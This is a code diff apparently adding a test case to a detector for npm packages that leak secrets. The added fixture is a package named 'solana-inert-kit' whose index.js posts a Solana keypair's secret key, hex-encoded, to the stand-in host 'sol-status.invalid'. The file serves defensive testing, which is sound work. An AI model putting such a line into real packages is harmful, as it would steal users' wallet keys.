@@ -224,6 +224,14 @@ examine(givesAwaySecrets, {
       weight: 'strong',
       says: ['sends seed'],
     },
+    {
+      when: 'the key of a chain goes to a host that begins like the package',
+      files: {
+        'package.json': { name: 'solana-inert-kit', description: 'Solana keypairs' },
+        'index.js': `exports.report = pair => fetch('https://sol-status.invalid/h', { method: 'POST', body: JSON.stringify({ t: Buffer.from(pair.secretKey).toString('hex') }) })`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
